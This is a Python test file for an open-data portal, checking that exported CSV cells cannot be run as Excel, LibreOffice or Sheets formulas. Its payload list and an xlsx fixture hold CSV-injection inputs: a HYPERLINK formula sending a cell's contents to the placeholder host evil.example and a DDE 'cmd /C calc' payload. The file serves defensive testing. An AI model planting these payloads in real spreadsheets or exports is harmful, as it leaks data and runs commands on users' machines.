"""Spreadsheet formulas (issue 13, OWASP CSV injection): no cell of any data/*.csv the portal writes can be run
as a formula by Excel, LibreOffice or Google Sheets, whatever the content or an imported spreadsheet says;
numbers stay numbers, and JSON and SQLite keep the text exactly as written."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import unicodedata
from pathlib import Path

import yaml
from conftest import AS_OF, build, portal
from hypothesis import given, settings
from hypothesis import strategies as st
from test_import_hostile import Cell, xlsx_bytes

# what spreadsheets take as the start of a formula: = + - @, tab, CR, LF, and the same signs in their
# full-width and small forms (an IME types ＝; NFKC, as some importers apply, turns it into =)
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "₊", "\u2212"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+SUM(1,1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "＝1+1", "＋1", "－1", "＠A1", "﹦1+1", "=1+1", "-1", "+86", "@here",
]


def formula_like(cell: str) -> bool:
    """The test's own reading of a cell, independent of the writer: would a spreadsheet start a formula?"""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    rest = "".join(ch for ch in cell if not (ch.isspace() or unicodedata.category(ch) == "Cf"))  # spaces, ZWSP, BOM …
    return bool(rest) and unicodedata.normalize("NFKC", rest[0])[:1] in ("=", "+", "-", "@", "\u2212")


def csv_rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))


def assert_inert(site: Path) -> int:
    """Every cell of every CSV under data/ (the Chinese-header copies in data/zh/ too) is inert; returns the
    number of cells seen."""
    seen = 0
    files = sorted((site / "data").rglob("*.csv"))
    names = {p.relative_to(site / "data").as_posix() for p in files}
    tables = {"tasks.csv", "complaints.csv", "notices.csv", "regions.csv", "events.csv"}
    assert names >= tables | {f"zh/{t}" for t in tables}
    for path in files:
        for row in csv_rows(path):
            for cell in row:
                seen += 1
                assert not formula_like(cell), f"{path}: {cell!r}"
    return seen


def hostile(content: Path) -> None:
    """Put a formula start into every text field of the mini content that reaches a CSV."""
    p = iter(PAYLOADS * 4)

    def y(value: str) -> str:
        return json.dumps(value, ensure_ascii=False)

    t2 = content / "tasks" / "T-2.yaml"
    t2.write_text(f"""id: T-2
number: 2
title: {y(next(p))}
problem: {y(chr(9) + "=1+1 园区企业无组织排放突出。")}
target: {y(next(p))}
measures: [{y(next(p))}, {y(next(p))}]
responsible_units: [{y(next(p))}]
supervising_units: [{y(next(p))}]
acceptance_unit: {y(next(p))}
regions: ["990200"]
deadline: 2024-06-30
history:
  - {{date: 2022-03-01, status: in_progress, note: {y(next(p))}}}
  - {{date: 2024-05-01, status: in_progress, note: {y(next(p))}, on_schedule: false}}
""", encoding="utf-8")
    regions = content / "regions.yaml"
    regions.write_text(regions.read_text(encoding="utf-8").replace("name: 乙市", f"name: {y(next(p))}"), encoding="utf-8")
    batch = content / "complaints" / "1.yaml"
    text = batch.read_text(encoding="utf-8")
    for old in ("某河道有污水直排。", "经查，部分属实。", "已封堵排污口。", "整改完成"):
        text = text.replace(old, y(next(p)), 1)
    text = text.replace("    handling: 已封堵排污口。", "").replace("    status: done\n", f"    status: done\n    accountability: {y(next(p))}\n", 1)
    batch.write_text(text, encoding="utf-8")
    notice = content / "announcements" / "N-1.yaml"
    text = notice.read_text(encoding="utf-8")
    text = text.replace("title: 测试省第二轮中央生态环境保护督察反馈问题第1项整改任务完成情况公示", f"title: {y(next(p))}")
    text = text.replace("unit: 测试省生态环境厅", f"unit: {y(next(p))}")
    notice.write_text(text, encoding="utf-8")


def test_no_csv_cell_starts_a_formula(mini: Path, tmp_path: Path) -> None:
    hostile(mini)
    out = tmp_path / "out"
    r = build(mini, out)
    assert r.code == 0, r.err
    assert assert_inert(out) > 200
    # the text is kept, behind one added apostrophe
    tasks = {row["id"]: row for row in csv.DictReader(io.StringIO(csv_rows_text(out / "data" / "tasks.csv"), newline=""))}
    assert tasks["T-2"]["title"] == "'" + PAYLOADS[0]
    assert tasks["T-1"]["title"] == "甲市某垃圾填埋场渗滤液处理能力不足"  # ordinary text is unchanged
    # the Chinese-header copy carries the same neutralised cells under 任务编号, 任务名称
    zh = {row["任务编号"]: row for row in csv.DictReader(io.StringIO(csv_rows_text(out / "data" / "zh" / "tasks.csv"), newline=""))}
    assert zh["T-2"]["任务名称"] == "'" + PAYLOADS[0] and zh["T-2"]["整改目标"] == "'" + PAYLOADS[1]
    # JSON and SQLite are not opened as spreadsheets: they keep the original text
    everything = json.loads((out / "data" / "portal.json").read_text(encoding="utf-8"))
    assert {t["id"]: t for t in everything["tables"]["tasks"]}["T-2"]["title"] == PAYLOADS[0]
    assert json.loads((out / "data" / "tasks" / "T-2.json").read_text(encoding="utf-8"))["title"] == PAYLOADS[0]
    db = sqlite3.connect(f"file:{out / 'data' / 'portal.sqlite'}?mode=ro", uri=True)
    try:
        assert db.execute("SELECT title FROM tasks WHERE id = 'T-2'").fetchone()[0] == PAYLOADS[0]
    finally:
        db.close()


def csv_rows_text(path: Path) -> str:
    return path.read_bytes()[3:].decode("utf-8")


def test_numbers_stay_numbers_and_text_is_quoted(mini: Path, tmp_path: Path) -> None:
    """Numeric columns are written bare (a spreadsheet reads -3 as the number -3); every text cell is quoted,
    so a locale that splits on ';' (the list separator of the tables) never starts a new cell inside a text."""
    from generator.render.opendata import TABLES

    hostile(mini)
    out = tmp_path / "out"
    assert build(mini, out).code == 0
    for table in TABLES:
        rows = list(csv.reader(io.StringIO(csv_rows_text(out / table.csv_url), newline=""), quoting=csv.QUOTE_NONNUMERIC))
        assert rows[0] == [c.name for c in table.columns]
        assert len(rows) > 1, table.name
        for row in rows[1:]:
            for column, value in zip(table.columns, row):
                numeric = column.type in ("integer", "real", "boolean")
                assert isinstance(value, float) == numeric, (table.name, column.name, value)


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(["", *STARTS, " ", "\u3000", " \t"]), st.text(max_size=30), st.integers(-5, 5), st.booleans())
def test_the_writer_neutralises_every_formula_start(start: str, rest: str, number: int, labels: bool) -> None:
    """The English-header and the Chinese-header (``labels``, data/zh/) files alike."""
    from generator.render.opendata import TABLE, csv_bytes

    table = TABLE["regions"]
    value = start + rest
    row = {"code": value, "name": value, "parent": value, "tasks": number, "complaints": number, "url": value}
    raw = csv_bytes(table, [row], labels=labels)
    assert raw.startswith(b"\xef\xbb\xbf")
    header, cells = csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline=""))
    assert header == ([c.label for c in table.columns] if labels else [c.name for c in table.columns])
    assert header[0] == ("地区代码" if labels else "code")
    for name, cell in zip([c.name for c in table.columns], cells):
        if name in ("tasks", "complaints"):
            assert cell == str(number)
        else:
            assert not formula_like(cell), repr(cell)
            assert cell == (("'" + value) if formula_like(value) else value)


# --- through portal import -------------------------------------------------------------------------

HEAD = ["受理编号", "交办问题基本情况", "行政区域", "污染类型", "调查核实情况", "处理和整改情况", "责任追究情况", "办结状态"]


def test_imported_formulas_stay_text_and_leave_the_csv_inert(mini: Path, tmp_path: Path) -> None:
    rows = [[f"D2CS20210610{i:04d}", payload, "甲市", "大气", payload, payload, payload, "已办结"]
            for i, payload in enumerate(PAYLOADS, start=1)]
    sheet = tmp_path / "hostile.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEAD, *rows])
    sheet.write_text(buffer.getvalue(), encoding="utf-8")
    r = portal("import", sheet, "--kind", "complaints", "--batch", "2", "--forwarded-on", "2021-06-15",
               "--content", mini, "--as-of", AS_OF)
    assert r.code == 0, r.err
    imported = yaml.safe_load((mini / "complaints" / "2.yaml").read_text(encoding="utf-8"))["complaints"]
    assert [c["summary"] for c in imported] == PAYLOADS  # text stays text, exactly
    out = tmp_path / "out"
    assert build(mini, out).code == 0
    assert assert_inert(out) > 100
    summaries = {row["ref"]: row["summary"] for row in csv.DictReader(io.StringIO(csv_rows_text(out / "data" / "complaints.csv"), newline=""))}
    assert summaries["D2CS202106100001"] == "'" + PAYLOADS[0]


def test_an_xlsx_formula_is_imported_as_its_result_never_as_a_formula(mini: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "formulas.xlsx"
    sheet.write_bytes(xlsx_bytes([
        HEAD,
        ["D2CS202106100001", Cell(formula='HYPERLINK("http://evil.example/","反映某厂废气扰民")', cached="反映某厂废气扰民"),
         "甲市", "大气", Cell(formula='"="&"1+1"', cached="=1+1"), "责令整改。", "", "已办结"],
    ]))
    r = portal("import", sheet, "--kind", "complaints", "--batch", "2", "--forwarded-on", "2021-06-15",
               "--content", mini, "--as-of", AS_OF)
    assert r.code == 0, r.err
    written = (mini / "complaints" / "2.yaml").read_text(encoding="utf-8")
    assert "HYPERLINK" not in written
    (complaint,) = yaml.safe_load(written)["complaints"]
    assert complaint["summary"] == "反映某厂废气扰民" and complaint["findings"] == "=1+1"
    out = tmp_path / "out"
    assert build(mini, out).code == 0
    assert_inert(out)


def test_the_chinese_header_copy_has_the_same_rows_byte_for_byte(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import io

    from generator.render import opendata
    from generator.render.opendata import TABLE, csv_bytes, write_csv

    table = TABLE["complaints"]
    rows = [{c.name: ("=1+1" if c.type == "text" else 0) for c in table.columns},
            {c.name: ("普通文字" if c.type == "text" else 3) for c in table.columns}]
    named, labelled = csv_bytes(table, rows), csv_bytes(table, rows, labels=True)
    # written in runs of rows (a national table is never one string): the same bytes whatever the run's length
    monkeypatch.setattr(opendata, "CSV_ROWS_AT_ONCE", 1)
    a, b = io.BytesIO(), io.BytesIO()
    write_csv(table, rows, a, b)
    assert (a.getvalue(), b.getvalue()) == (named, labelled)
    head_named, rest_named = named.split(b"\r\n", 1)
    head_labelled, rest_labelled = labelled.split(b"\r\n", 1)
    assert rest_named == rest_labelled and rest_named.count(b"\r\n") == 2
    assert head_named.decode("utf-8-sig").split(",")[0] == f'"{table.columns[0].name}"'
    assert head_labelled.decode("utf-8-sig").split(",")[0] == f'"{table.columns[0].label}"'
    assert b"\"'=1+1\"" in rest_named and b'"=1+1"' not in rest_named
